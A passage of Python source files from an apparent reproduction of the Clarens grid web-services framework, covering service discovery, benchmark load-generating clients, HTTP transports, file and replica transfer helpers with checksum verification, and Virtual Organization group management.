        self._factories: dict[str, Callable[[], ClarensClient]] = {}
        self._lock = threading.Lock()

    def register_loopback(self, url: str, loopback: LoopbackTransport, *,
                          credential: Credential | None = None,
                          url_prefix: str = "/clarens") -> None:
        """Associate a loopback transport with a discovery URL."""

        with self._lock:
            self._factories[url] = lambda: ClarensClient.for_loopback(
                loopback, credential=credential, url_prefix=url_prefix)

    def register_http(self, url: str, *, url_prefix: str = "/clarens") -> None:
        """Associate a plain HTTP base URL with itself."""

        with self._lock:
            self._factories[url] = lambda: ClarensClient.for_url(url, url_prefix=url_prefix)

    def register_factory(self, url: str, factory: Callable[[], ClarensClient]) -> None:
        with self._lock:
            self._factories[url] = factory

    def resolve(self, url: str) -> ClarensClient:
        with self._lock:
            factory = self._factories.get(url)
        if factory is None:
            if url.startswith("http://"):
                return ClarensClient.for_url(url)
            raise ClientError(f"no transport registered for discovery URL {url!r}")
        return factory()

    def urls(self) -> list[str]:
        with self._lock:
            return sorted(self._factories)


class DiscoveryAwareClient:
    """Resolves service locations at call time through a discovery server."""

    def __init__(self, discovery_client: ClarensClient, directory: ServerDirectory, *,
                 login: Callable[[ClarensClient], None] | None = None) -> None:
        self.discovery = discovery_client
        self.directory = directory
        #: Optional callable that logs a freshly bound client in (e.g. with a
        #: user credential) before it is used.
        self._login = login
        self._bound: dict[str, tuple[str, ClarensClient]] = {}
        self._lock = threading.Lock()

    # -- binding -----------------------------------------------------------------------
    def resolve_url(self, *, module: str = "", method: str = "", name: str = "") -> str:
        url = self.discovery.call("discovery.lookup", module, method, name)
        if not url:
            target = name or method or module
            raise ClientError(f"discovery found no live server offering {target!r}")
        return url

    def bind(self, module: str) -> ClarensClient:
        """Return a client bound to a live server offering ``module``."""

        url = self.resolve_url(module=module)
        with self._lock:
            cached = self._bound.get(module)
            if cached is not None and cached[0] == url:
                return cached[1]
        client = self.directory.resolve(url)
        if self._login is not None:
            self._login(client)
        with self._lock:
            self._bound[module] = (url, client)
        return client

    def unbind(self, module: str) -> None:
        with self._lock:
            self._bound.pop(module, None)

    # -- calls --------------------------------------------------------------------------
    def call(self, method: str, *params: Any) -> Any:
        """Call ``module.method`` on whichever live server offers it.

        If the cached binding fails (server gone), the binding is dropped and
        resolved again once before giving up — the "services move" scenario.
        """

        module = method.split(".", 1)[0]
        client = self.bind(module)
        try:
            return client.call(method, *params)
        except ClientError:
            self.unbind(module)
            client = self.bind(module)
            return client.call(method, *params)

    def close(self) -> None:
        with self._lock:
            for _, client in self._bound.values():
                client.close()
            self._bound.clear()
