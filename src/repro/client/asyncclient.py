"""The asynchronous load-generating client (the Figure 4 workload).

The paper's performance test ran "a configurable number of unencrypted client
connections … set to access the ``system.list_methods`` Web Service method as
rapidly as possible", with "a single process opening connections to the
server and completing requests asynchronously".  Each batch was 1000 calls;
batches were repeated and the number of asynchronous clients varied from 1 to
79.

:class:`AsyncLoadClient` reproduces that: it opens ``n_clients`` concurrent
connections (each its own keep-alive loopback or HTTP connection) and divides
a batch of calls across them, with each connection issuing its share
back-to-back.  The result records wall-clock duration and the derived
calls-per-second figure ("e.g. 0.5 seconds for 1000 calls means 2000 calls
per second").
"""

from __future__ import annotations

import asyncio
import threading
import time
import urllib.parse
from dataclasses import dataclass, field
from typing import Any, Callable, Sequence

from repro.client.client import ClarensClient
from repro.client.errors import TransportError

__all__ = ["AsyncLoadClient", "PipelinedLoadClient", "LoadResult"]

#: A factory producing an independent, ready-to-use client (one per connection).
ClientFactory = Callable[[], ClarensClient]


@dataclass
class LoadResult:
    """Outcome of one load batch."""

    n_clients: int
    calls: int
    duration_s: float
    errors: int = 0
    per_client_calls: list[int] = field(default_factory=list)

    @property
    def calls_per_second(self) -> float:
        if self.duration_s <= 0:
            return 0.0
        return self.calls / self.duration_s

    def to_record(self) -> dict[str, Any]:
        return {
            "n_clients": self.n_clients,
            "calls": self.calls,
            "duration_s": self.duration_s,
            "calls_per_second": self.calls_per_second,
            "errors": self.errors,
        }


class AsyncLoadClient:
    """Drives many concurrent client connections against one server."""

    def __init__(self, client_factory: ClientFactory, *, n_clients: int = 1) -> None:
        if n_clients < 1:
            raise ValueError("at least one client connection is required")
        self.client_factory = client_factory
        self.n_clients = n_clients
        self._clients: list[ClarensClient] | None = None

    # -- connection management -------------------------------------------------------
    def _ensure_clients(self) -> list[ClarensClient]:
        if self._clients is None:
            self._clients = [self.client_factory() for _ in range(self.n_clients)]
        return self._clients

    def close(self) -> None:
        if self._clients is not None:
            for client in self._clients:
                client.close()
            self._clients = None

    def __enter__(self) -> "AsyncLoadClient":
        self._ensure_clients()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    # -- load generation ----------------------------------------------------------------
    def run_batch(self, calls: int = 1000, *, method: str = "system.list_methods",
                  params: Sequence[Any] = ()) -> LoadResult:
        """Issue ``calls`` total calls split across the client connections."""

        clients = self._ensure_clients()
        shares = _split(calls, len(clients))
        errors = [0] * len(clients)
        done = [0] * len(clients)
        # All workers go through the barrier before the clock starts, so the
        # measured window contains only calls — not thread start-up.  Without
        # this the first workers drain their (small) shares before the last
        # thread even runs, which at 8+ clients and smoke-sized batches
        # understates throughput by 30-50% with huge run-to-run variance.
        ready = threading.Barrier(len(clients) + 1)

        def worker(index: int) -> None:
            client = clients[index]
            ready.wait()
            for _ in range(shares[index]):
                try:
                    client.call(method, *params)
                except Exception:  # noqa: BLE001 - count and continue, like the paper's client
                    errors[index] += 1
                done[index] += 1

        threads = [threading.Thread(target=worker, args=(i,), daemon=True)
                   for i in range(len(clients))]
        for thread in threads:
            thread.start()
        ready.wait()
        start = time.perf_counter()
        for thread in threads:
            thread.join()
        duration = time.perf_counter() - start
        return LoadResult(n_clients=len(clients), calls=sum(done), duration_s=duration,
                          errors=sum(errors), per_client_calls=list(done))

    def run_batches(self, batches: int, calls_per_batch: int = 1000, *,
                    method: str = "system.list_methods",
                    params: Sequence[Any] = ()) -> list[LoadResult]:
        """Repeat :meth:`run_batch` and return every result (paper: 2000 repeats)."""

        return [self.run_batch(calls_per_batch, method=method, params=params)
                for _ in range(batches)]


def _split(total: int, parts: int) -> list[int]:
    """Split ``total`` calls across ``parts`` connections as evenly as possible."""

    base, remainder = divmod(total, parts)
    return [base + (1 if i < remainder else 0) for i in range(parts)]


class PipelinedLoadClient:
    """An event-loop load generator: many keep-alive sockets, one thread.

    :class:`AsyncLoadClient` models the paper's client faithfully — N
    concurrent connections — but implements each with a Python thread, so at
    high N the *client's* GIL convoy pollutes the measurement.  This client
    drives every connection from a single asyncio loop instead and pipelines
    ``pipeline_depth`` HTTP/1.1 requests per write, which is also what the
    async frontend's batched dispatch is built to exploit.  Requests are
    pre-encoded once (anonymous calls, XML-RPC), so the loop does nothing
    but socket I/O and response framing — the server stays the bottleneck.

    The same client drives both server frontends, making the threaded-vs-
    async benchmark A/B a server-only comparison.
    """

    def __init__(self, base_url: str, rpc_path: str = "/clarens/rpc", *,
                 n_clients: int = 1, pipeline_depth: int = 16,
                 timeout: float = 30.0, codec=None) -> None:
        if n_clients < 1:
            raise ValueError("at least one client connection is required")
        if pipeline_depth < 1:
            raise ValueError("pipeline_depth must be at least 1")
        parsed = urllib.parse.urlparse(base_url)
        if not parsed.hostname:
            raise TransportError(f"URL {base_url!r} has no host")
        self.host = parsed.hostname
        self.port = parsed.port or 80
        self.rpc_path = rpc_path
        self.n_clients = n_clients
        self.pipeline_depth = pipeline_depth
        self.timeout = timeout
        #: The wire codec requests are pre-encoded with (default XML-RPC);
        #: pass ``BinaryCodec()`` for the fast-wire-path A/B.
        self.codec = codec

    # -- request encoding ----------------------------------------------------
    def _encode_request(self, method: str, params: Sequence[Any]) -> bytes:
        from repro.protocols import RPCRequest, XMLRPCCodec

        codec = self.codec or XMLRPCCodec()
        body = codec.encode_request(RPCRequest(method=method, params=list(params)))
        head = (f"POST {self.rpc_path} HTTP/1.1\r\n"
                f"Host: {self.host}:{self.port}\r\n"
                f"Content-Type: {codec.content_type}\r\n"
                f"Content-Length: {len(body)}\r\n"
                f"Connection: keep-alive\r\n\r\n").encode("latin-1")
        return head + body

    # -- load generation -----------------------------------------------------
    def run_batch(self, calls: int = 1000, *, method: str = "system.list_methods",
                  params: Sequence[Any] = ()) -> LoadResult:
        """Issue ``calls`` total calls split across the connections."""

        wire_request = self._encode_request(method, params)
        shares = _split(calls, self.n_clients)
        done = [0] * self.n_clients
        errors = [0] * self.n_clients

        async def read_window(index: int, reader, window: int) -> None:
            for _ in range(window):
                status = await _read_response_status(reader)
                if status != 200:
                    errors[index] += 1
                done[index] += 1

        async def connection(index: int) -> None:
            reader, writer = await asyncio.open_connection(self.host, self.port)
            try:
                remaining = shares[index]
                while remaining > 0:
                    window = min(self.pipeline_depth, remaining)
                    writer.write(wire_request * window)
                    await writer.drain()
                    # One timeout (and one task) per pipelined window, not
                    # per response: wait_for wraps its awaitable in a fresh
                    # Task plus a timer handle, which at depth 16 costs more
                    # loop bookkeeping than the reads themselves.
                    await asyncio.wait_for(read_window(index, reader, window),
                                           timeout=self.timeout)
                    remaining -= window
            except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                errors[index] += shares[index] - done[index]
                done[index] = shares[index]
            finally:
                writer.close()

        async def drive() -> float:
            start = time.perf_counter()
            await asyncio.gather(*(connection(i) for i in range(self.n_clients)))
            return time.perf_counter() - start

        duration = asyncio.run(drive())
        return LoadResult(n_clients=self.n_clients, calls=sum(done),
                          duration_s=duration, errors=sum(errors),
                          per_client_calls=list(done))

    def run_batches(self, batches: int, calls_per_batch: int = 1000, *,
                    method: str = "system.list_methods",
                    params: Sequence[Any] = ()) -> list[LoadResult]:
        """Repeat :meth:`run_batch` and return every result."""

        return [self.run_batch(calls_per_batch, method=method, params=params)
                for _ in range(batches)]


async def _read_response_status(reader: asyncio.StreamReader) -> int:
    """Read one HTTP response, discard its body, and return the status."""

    head = await reader.readuntil(b"\r\n\r\n")
    # Byte-level framing: the status sits at a fixed offset of the status
    # line ("HTTP/1.1 NNN ...") and only Content-Length matters for
    # discarding the body — no need to decode and split the whole head.
    status = int(head[9:12])
    marker = head.lower().find(b"content-length:")
    if marker >= 0:
        end = head.index(b"\r\n", marker)
        length = int(head[marker + 15:end])
    else:
        length = 0
    if length:
        await reader.readexactly(length)
    return status
