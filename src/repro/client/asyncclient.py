"""The asynchronous load-generating client (the Figure 4 workload).

The paper's performance test ran "a configurable number of unencrypted client
connections … set to access the ``system.list_methods`` Web Service method as
rapidly as possible", with "a single process opening connections to the
server and completing requests asynchronously".  Each batch was 1000 calls;
batches were repeated and the number of asynchronous clients varied from 1 to
79.

:class:`AsyncLoadClient` reproduces that: it opens ``n_clients`` concurrent
connections (each its own keep-alive loopback or HTTP connection) and divides
a batch of calls across them, with each connection issuing its share
back-to-back.  The result records wall-clock duration and the derived
calls-per-second figure ("e.g. 0.5 seconds for 1000 calls means 2000 calls
per second").
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import Any, Callable, Sequence

from repro.client.client import ClarensClient

__all__ = ["AsyncLoadClient", "LoadResult"]

#: A factory producing an independent, ready-to-use client (one per connection).
ClientFactory = Callable[[], ClarensClient]


@dataclass
class LoadResult:
    """Outcome of one load batch."""

    n_clients: int
    calls: int
    duration_s: float
    errors: int = 0
    per_client_calls: list[int] = field(default_factory=list)

    @property
    def calls_per_second(self) -> float:
        if self.duration_s <= 0:
            return 0.0
        return self.calls / self.duration_s

    def to_record(self) -> dict[str, Any]:
        return {
            "n_clients": self.n_clients,
            "calls": self.calls,
            "duration_s": self.duration_s,
            "calls_per_second": self.calls_per_second,
            "errors": self.errors,
        }


class AsyncLoadClient:
    """Drives many concurrent client connections against one server."""

    def __init__(self, client_factory: ClientFactory, *, n_clients: int = 1) -> None:
        if n_clients < 1:
            raise ValueError("at least one client connection is required")
        self.client_factory = client_factory
        self.n_clients = n_clients
        self._clients: list[ClarensClient] | None = None

    # -- connection management -------------------------------------------------------
    def _ensure_clients(self) -> list[ClarensClient]:
        if self._clients is None:
            self._clients = [self.client_factory() for _ in range(self.n_clients)]
        return self._clients

    def close(self) -> None:
        if self._clients is not None:
            for client in self._clients:
                client.close()
            self._clients = None

    def __enter__(self) -> "AsyncLoadClient":
        self._ensure_clients()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    # -- load generation ----------------------------------------------------------------
    def run_batch(self, calls: int = 1000, *, method: str = "system.list_methods",
                  params: Sequence[Any] = ()) -> LoadResult:
        """Issue ``calls`` total calls split across the client connections."""

        clients = self._ensure_clients()
        shares = _split(calls, len(clients))
        errors = [0] * len(clients)
        done = [0] * len(clients)

        def worker(index: int) -> None:
            client = clients[index]
            for _ in range(shares[index]):
                try:
                    client.call(method, *params)
                except Exception:  # noqa: BLE001 - count and continue, like the paper's client
                    errors[index] += 1
                done[index] += 1

        threads = [threading.Thread(target=worker, args=(i,), daemon=True)
                   for i in range(len(clients))]
        start = time.perf_counter()
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        duration = time.perf_counter() - start
        return LoadResult(n_clients=len(clients), calls=sum(done), duration_s=duration,
                          errors=sum(errors), per_client_calls=list(done))

    def run_batches(self, batches: int, calls_per_batch: int = 1000, *,
                    method: str = "system.list_methods",
                    params: Sequence[Any] = ()) -> list[LoadResult]:
        """Repeat :meth:`run_batch` and return every result (paper: 2000 repeats)."""

        return [self.run_batch(calls_per_batch, method=method, params=params)
                for _ in range(batches)]


def _split(total: int, parts: int) -> list[int]:
    """Split ``total`` calls across ``parts`` connections as evenly as possible."""

    base, remainder = divmod(total, parts)
    return [base + (1 if i < remainder else 0) for i in range(parts)]
