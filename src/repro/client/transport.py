"""Client transports.

A transport turns (method, path, headers, body) into an HTTP response.  Two
implementations exist: one speaking to an in-process
:class:`~repro.httpd.loopback.LoopbackConnection` (used by tests and the
benchmarks, like the paper's framework-overhead measurement) and one speaking
real HTTP over sockets via :mod:`http.client`.
"""

from __future__ import annotations

import http.client
import urllib.parse
from typing import Mapping, Protocol

from repro.client.errors import TransportError
from repro.httpd.loopback import LoopbackConnection, LoopbackTransport
from repro.httpd.message import Headers, HTTPRequest, HTTPResponse
from repro.httpd.tls import TLSContext

__all__ = ["Transport", "LoopbackClientTransport", "HTTPTransport"]


class Transport(Protocol):
    """The interface both transports implement."""

    def request(self, method: str, path: str, *, headers: Mapping[str, str] | None = None,
                body: bytes = b"") -> HTTPResponse:  # pragma: no cover - protocol
        ...

    def close(self) -> None:  # pragma: no cover - protocol
        ...


class LoopbackClientTransport:
    """Transport over an in-process loopback connection."""

    def __init__(self, transport: LoopbackTransport, *,
                 client_tls: TLSContext | None = None) -> None:
        self._loopback = transport
        self._client_tls = client_tls
        self._connection: LoopbackConnection | None = None

    def _connect(self) -> LoopbackConnection:
        if self._connection is None:
            self._connection = self._loopback.connect(self._client_tls)
        return self._connection

    def request(self, method: str, path: str, *, headers: Mapping[str, str] | None = None,
                body: bytes = b"") -> HTTPResponse:
        request = HTTPRequest(method=method, path=path, headers=Headers(dict(headers or {})),
                              body=body)
        return self._connect().request(request)

    @property
    def client_dn(self) -> str | None:
        return self._connect().client_dn

    def close(self) -> None:
        if self._connection is not None:
            self._connection.close()
            self._connection = None


class HTTPTransport:
    """Transport over a real TCP connection (keep-alive, one socket)."""

    def __init__(self, base_url: str, *, timeout: float = 30.0) -> None:
        parsed = urllib.parse.urlparse(base_url)
        if parsed.scheme not in ("http", ""):
            raise TransportError(f"unsupported URL scheme {parsed.scheme!r}")
        if not parsed.hostname:
            raise TransportError(f"URL {base_url!r} has no host")
        self.host = parsed.hostname
        self.port = parsed.port or 80
        self.timeout = timeout
        self._conn: http.client.HTTPConnection | None = None
        #: Requests completed on the *current* connection; a positive count
        #: marks it as a reused keep-alive socket the server may close idle.
        self._completed = 0

    def _connect(self) -> http.client.HTTPConnection:
        if self._conn is None:
            self._conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
            self._completed = 0
        return self._conn

    def request(self, method: str, path: str, *, headers: Mapping[str, str] | None = None,
                body: bytes = b"") -> HTTPResponse:
        """Issue one request, reconnecting once when that is provably safe.

        A server may close an idle keep-alive connection between requests,
        so one reconnect attempt is allowed — but only when the retry cannot
        silently replay a call the server might already have executed:

        * idempotent bodyless methods (GET/HEAD) always get the retry;
        * anything carrying a body is resent only when the first attempt
          failed *before any body bytes were written*.  With Content-Length
          framing the server cannot execute a request whose body never
          started, so that resend is safe.  Once body bytes are on the wire
          the retry is additionally allowed when the failure is the
          *stale keep-alive* signature — the connection had already
          completed at least one request and the server dropped it without
          sending any response bytes (``RemoteDisconnected``, or the
          connection reset underneath the write).  That close races our
          request against the server's idle timeout or restart; the server
          abandoned the connection without answering, so the call did not
          complete and a fresh-connection resend (with the same headers —
          they are rebuilt per request, so a negotiated Content-Type
          travels on the retry too) is safe.  Any other mid-exchange
          failure surfaces to the caller instead of replaying a possibly
          non-idempotent RPC.
        """

        header_map = dict(headers or {})
        for attempt in (0, 1):
            conn = self._connect()
            reused = self._completed > 0
            body_bytes_written = False
            try:
                conn.putrequest(method, path)
                for key, value in header_map.items():
                    conn.putheader(key, value)
                if body and not any(k.lower() == "content-length"
                                    for k in header_map):
                    conn.putheader("Content-Length", str(len(body)))
                conn.endheaders()
                if body:
                    body_bytes_written = True
                    conn.send(body)
                raw = conn.getresponse()
                payload = raw.read()
            except (OSError, http.client.HTTPException) as exc:
                self.close()
                stale_keepalive = reused and isinstance(
                    exc, (http.client.RemoteDisconnected,
                          ConnectionResetError, BrokenPipeError))
                retry_safe = (method in ("GET", "HEAD")
                              or not body_bytes_written
                              or stale_keepalive)
                if attempt == 0 and retry_safe:
                    continue
                raise TransportError(f"HTTP request failed: {exc}") from exc
            self._completed += 1
            response_headers = Headers()
            for key, value in raw.getheaders():
                response_headers.add(key, value)
            return HTTPResponse(status=raw.status, headers=response_headers,
                                body=payload)
        raise TransportError("unreachable")  # pragma: no cover

    def close(self) -> None:
        if self._conn is not None:
            try:
                self._conn.close()
            finally:
                self._conn = None
