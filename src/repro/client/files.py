"""File transfer helpers.

Ways to move file data, matching the paper:

* ``download_file`` issues an HTTP GET against the file endpoint, exercising
  the server's zero-copy sendfile path (how the SC2003 bandwidth-challenge
  streams were served);
* ``download_file_rpc`` pulls the file in chunks through ``file.read``
  (filename, offset, nbytes), the RPC path;
* ``upload_file`` pushes data through ``file.write``.

Both download helpers optionally verify the MD5 checksum against
``file.md5``, the integrity check the paper describes.

Replica-aware access goes through the server's replica broker instead of a
concrete path:

* ``download_lfn`` reads a *logical file name* via ``replica.read`` — the
  server resolves the nearest usable replica per chunk and fails over when
  one dies mid-download — and verifies the bytes against the catalogue
  checksum;
* ``download_lfn_http`` does the same over the GET fast path
  (``<prefix>/file/.lfn/<name>``), zero-copy when the best replica is local;
* ``download_lfn_range`` pulls one byte range over that fast path (the
  primitive remote storage elements are built on);
* ``replicate_lfn`` queues a replication and (by default) polls the transfer
  to a terminal state, raising on failure.
"""

from __future__ import annotations

import hashlib
import time
from pathlib import Path

from repro.client.client import ClarensClient
from repro.client.errors import ClientError

__all__ = ["download_file", "download_file_rpc", "download_lfn",
           "download_lfn_http", "download_lfn_range", "replicate_lfn",
           "upload_file", "DEFAULT_CHUNK"]

#: Transfer states that end a ``replicate_lfn`` poll.
_TERMINAL_STATES = ("done", "failed", "cancelled")

DEFAULT_CHUNK = 1 << 20  # 1 MiB, matching the server's FilePayload chunking


def download_file(client: ClarensClient, remote_path: str,
                  local_path: str | Path | None = None, *,
                  verify_checksum: bool = False) -> bytes:
    """Download a file over HTTP GET; optionally write it locally and verify MD5."""

    response = client.http_get(remote_path.lstrip("/"))
    if response.status != 200:
        raise ClientError(
            f"GET {remote_path} failed with HTTP {response.status}: "
            f"{response.body_bytes()[:200]!r}")
    data = response.body_bytes()
    if verify_checksum:
        expected = client.call("file.md5", remote_path)
        actual = hashlib.md5(data).hexdigest()
        if expected != actual:
            raise ClientError(
                f"checksum mismatch for {remote_path}: expected {expected}, got {actual}")
    if local_path is not None:
        Path(local_path).write_bytes(data)
    return data


def download_file_rpc(client: ClarensClient, remote_path: str,
                      local_path: str | Path | None = None, *,
                      chunk_size: int = DEFAULT_CHUNK,
                      verify_checksum: bool = False) -> bytes:
    """Download a file via chunked ``file.read`` RPC calls."""

    size = client.call("file.size", remote_path)
    chunks: list[bytes] = []
    offset = 0
    while offset < size:
        chunk = client.call("file.read", remote_path, offset, min(chunk_size, size - offset))
        if not chunk:
            break
        chunks.append(chunk)
        offset += len(chunk)
    data = b"".join(chunks)
    if verify_checksum:
        expected = client.call("file.md5", remote_path)
        actual = hashlib.md5(data).hexdigest()
        if expected != actual:
            raise ClientError(
                f"checksum mismatch for {remote_path}: expected {expected}, got {actual}")
    if local_path is not None:
        Path(local_path).write_bytes(data)
    return data


def download_lfn(client: ClarensClient, lfn: str,
                 local_path: str | Path | None = None, *,
                 chunk_size: int = DEFAULT_CHUNK,
                 verify_checksum: bool = True) -> bytes:
    """Download a logical file through the server's replica broker.

    Each ``replica.read`` chunk is served from the best usable replica at
    that moment, so a storage element failing mid-download costs a failover
    on the server, not a broken transfer.  The assembled bytes are verified
    against the catalogue checksum (the end-to-end integrity contract the
    replica layer maintains).
    """

    entry = client.call("replica.stat", lfn)
    size = int(entry["size"])
    chunks: list[bytes] = []
    offset = 0
    while offset < size:
        chunk = client.call("replica.read", lfn, offset,
                            min(chunk_size, size - offset))
        if not chunk:
            break
        chunks.append(chunk)
        offset += len(chunk)
    data = b"".join(chunks)
    if len(data) != size:
        raise ClientError(
            f"short read for {lfn}: got {len(data)} of {size} bytes")
    if verify_checksum and entry.get("checksum"):
        actual = hashlib.md5(data).hexdigest()
        if actual != entry["checksum"]:
            raise ClientError(
                f"checksum mismatch for {lfn}: expected {entry['checksum']}, "
                f"got {actual}")
    if local_path is not None:
        Path(local_path).write_bytes(data)
    return data


def download_lfn_http(client: ClarensClient, lfn: str,
                      local_path: str | Path | None = None, *,
                      verify_checksum: bool = True) -> bytes:
    """Download a logical file over the GET fast path (``file/.lfn/<name>``)."""

    response = client.http_get(".lfn/" + lfn.lstrip("/"))
    if response.status != 200:
        raise ClientError(
            f"GET .lfn{lfn} failed with HTTP {response.status}: "
            f"{response.body_bytes()[:200]!r}")
    data = response.body_bytes()
    if verify_checksum:
        entry = client.call("replica.stat", lfn)
        if entry.get("checksum"):
            actual = hashlib.md5(data).hexdigest()
            if actual != entry["checksum"]:
                raise ClientError(
                    f"checksum mismatch for {lfn}: expected "
                    f"{entry['checksum']}, got {actual}")
    if local_path is not None:
        Path(local_path).write_bytes(data)
    return data


def download_lfn_range(client: ClarensClient, lfn: str, offset: int,
                       length: int) -> bytes:
    """Read one byte range of a logical file over the GET fast path.

    The server resolves its best replica for this range alone, so successive
    ranges of one download may be served by different replicas — the caller
    (e.g. a remote storage element pulling a file across the fabric) gets
    per-chunk failover for free.
    """

    response = client.http_get(".lfn/" + lfn.lstrip("/"),
                               query=f"offset={int(offset)}&length={int(length)}")
    if response.status != 200:
        raise ClientError(
            f"ranged GET .lfn{lfn} failed with HTTP {response.status}: "
            f"{response.body_bytes()[:200]!r}")
    return response.body_bytes()


def replicate_lfn(client: ClarensClient, lfn: str, dst_se: str, *,
                  src_se: str = "", priority: int = 5, wait: bool = True,
                  timeout: float = 60.0, poll_interval: float = 0.05) -> dict:
    """Queue a replication of ``lfn`` onto ``dst_se``; optionally wait.

    With ``wait`` (the default) the transfer is polled until it reaches a
    terminal state: the final record is returned for ``done`` and a
    :class:`ClientError` raised for ``failed``/``cancelled``, so callers
    can treat replication as a synchronous verb.
    """

    record = client.call("replica.replicate", lfn, dst_se, src_se, int(priority))
    if not wait:
        return record
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        record = client.call("replica.status", record["transfer_id"])
        if record["state"] in _TERMINAL_STATES:
            if record["state"] != "done":
                raise ClientError(
                    f"replication of {lfn} to {dst_se} {record['state']}: "
                    f"{record.get('error', '')}")
            return record
        time.sleep(poll_interval)
    raise ClientError(
        f"replication of {lfn} to {dst_se} still {record['state']} "
        f"after {timeout}s")


def upload_file(client: ClarensClient, local_path: str | Path, remote_path: str, *,
                chunk_size: int = DEFAULT_CHUNK) -> int:
    """Upload a local file via chunked ``file.write`` calls; returns bytes sent."""

    data = Path(local_path).read_bytes()
    sent = 0
    first = True
    while sent < len(data) or first:
        chunk = data[sent:sent + chunk_size]
        client.call("file.write", remote_path, chunk, not first)
        sent += len(chunk)
        first = False
        if not chunk:
            break
    return sent
