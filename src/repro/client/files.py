"""File transfer helpers.

Two ways to move file data, matching the paper:

* ``download_file`` issues an HTTP GET against the file endpoint, exercising
  the server's zero-copy sendfile path (how the SC2003 bandwidth-challenge
  streams were served);
* ``download_file_rpc`` pulls the file in chunks through ``file.read``
  (filename, offset, nbytes), the RPC path;
* ``upload_file`` pushes data through ``file.write``.

Both download helpers optionally verify the MD5 checksum against
``file.md5``, the integrity check the paper describes.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

from repro.client.client import ClarensClient
from repro.client.errors import ClientError

__all__ = ["download_file", "download_file_rpc", "upload_file", "DEFAULT_CHUNK"]

DEFAULT_CHUNK = 1 << 20  # 1 MiB, matching the server's FilePayload chunking


def download_file(client: ClarensClient, remote_path: str,
                  local_path: str | Path | None = None, *,
                  verify_checksum: bool = False) -> bytes:
    """Download a file over HTTP GET; optionally write it locally and verify MD5."""

    response = client.http_get(remote_path.lstrip("/"))
    if response.status != 200:
        raise ClientError(
            f"GET {remote_path} failed with HTTP {response.status}: "
            f"{response.body_bytes()[:200]!r}")
    data = response.body_bytes()
    if verify_checksum:
        expected = client.call("file.md5", remote_path)
        actual = hashlib.md5(data).hexdigest()
        if expected != actual:
            raise ClientError(
                f"checksum mismatch for {remote_path}: expected {expected}, got {actual}")
    if local_path is not None:
        Path(local_path).write_bytes(data)
    return data


def download_file_rpc(client: ClarensClient, remote_path: str,
                      local_path: str | Path | None = None, *,
                      chunk_size: int = DEFAULT_CHUNK,
                      verify_checksum: bool = False) -> bytes:
    """Download a file via chunked ``file.read`` RPC calls."""

    size = client.call("file.size", remote_path)
    chunks: list[bytes] = []
    offset = 0
    while offset < size:
        chunk = client.call("file.read", remote_path, offset, min(chunk_size, size - offset))
        if not chunk:
            break
        chunks.append(chunk)
        offset += len(chunk)
    data = b"".join(chunks)
    if verify_checksum:
        expected = client.call("file.md5", remote_path)
        actual = hashlib.md5(data).hexdigest()
        if expected != actual:
            raise ClientError(
                f"checksum mismatch for {remote_path}: expected {expected}, got {actual}")
    if local_path is not None:
        Path(local_path).write_bytes(data)
    return data


def upload_file(client: ClarensClient, local_path: str | Path, remote_path: str, *,
                chunk_size: int = DEFAULT_CHUNK) -> int:
    """Upload a local file via chunked ``file.write`` calls; returns bytes sent."""

    data = Path(local_path).read_bytes()
    sent = 0
    first = True
    while sent < len(data) or first:
        chunk = data[sent:sent + chunk_size]
        client.call("file.write", remote_path, chunk, not first)
        sent += len(chunk)
        first = False
        if not chunk:
            break
    return sent
