"""Virtual Organization management (paper section 2.1).

Each Clarens server manages a tree-like VO structure rooted in an ``admins``
group whose members come from the server configuration at every restart.
Groups hold two DN lists (members and administrators); membership is
hierarchical (members of a higher-level group are automatically members of
the lower-level groups in the same branch) and DN *prefixes* may be listed to
admit every identity issued under a CA branch.
"""

from __future__ import annotations

from repro.vo.model import Group, VOError, VOManager

__all__ = ["Group", "VOManager", "VOError"]
