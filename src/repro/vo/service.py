"""The ``vo`` service: RPC access to Virtual Organization management.

Administrators of a group may add and delete members and lower-level groups;
the server ``admins`` group may manage everything (paper section 2.1).  The
methods below are thin RPC wrappers around
:class:`~repro.vo.model.VOManager`, with the caller DN taken from the call
context so the authorization rules are enforced server-side.
"""

from __future__ import annotations

from typing import Any

from repro.core.context import CallContext
from repro.core.service import ClarensService, rpc_method

__all__ = ["VOService"]


class VOService(ClarensService):
    """Virtual Organization management methods."""

    service_name = "vo"

    # -- queries -----------------------------------------------------------------
    @rpc_method()
    def list_groups(self, ctx: CallContext, prefix: str = "") -> list[str]:
        """List group names, optionally restricted to one branch."""

        return self.server.vo.list_groups(prefix or None)

    @rpc_method()
    def get_group(self, ctx: CallContext, name: str) -> dict[str, Any]:
        """Return one group's members, admins and metadata."""

        return self.server.vo.get_group(name).to_record()

    @rpc_method()
    def tree(self, ctx: CallContext) -> dict[str, Any]:
        """The whole group hierarchy as nested dictionaries."""

        return self.server.vo.tree()

    @rpc_method()
    def is_member(self, ctx: CallContext, dn: str, group: str) -> bool:
        """Whether ``dn`` is a member of ``group`` (including via hierarchy)."""

        return self.server.vo.is_member(dn, group)

    @rpc_method()
    def my_groups(self, ctx: CallContext) -> list[str]:
        """The groups the calling DN belongs to."""

        return self.server.vo.groups_for(ctx.require_dn())

    @rpc_method()
    def is_admin(self, ctx: CallContext, dn: str = "", group: str = "") -> bool:
        """Whether a DN (default: the caller) administers a group (default: server)."""

        target = dn or ctx.require_dn()
        return self.server.vo.is_admin(target, group or None)

    # -- mutation -----------------------------------------------------------------
    @rpc_method()
    def create_group(self, ctx: CallContext, name: str, members: list[str] = [],
                     admins: list[str] = [], description: str = "") -> dict[str, Any]:
        """Create a group (caller must administer the parent branch)."""

        group = self.server.vo.create_group(
            name, actor_dn=ctx.require_dn(), members=list(members or []),
            admins=list(admins or []), description=description)
        return group.to_record()

    @rpc_method()
    def delete_group(self, ctx: CallContext, name: str, recursive: bool = False) -> bool:
        """Delete a group (and optionally its sub-groups)."""

        self.server.vo.delete_group(name, actor_dn=ctx.require_dn(), recursive=bool(recursive))
        return True

    @rpc_method()
    def add_member(self, ctx: CallContext, group: str, dn: str) -> bool:
        """Add a DN (or DN prefix) to a group's member list."""

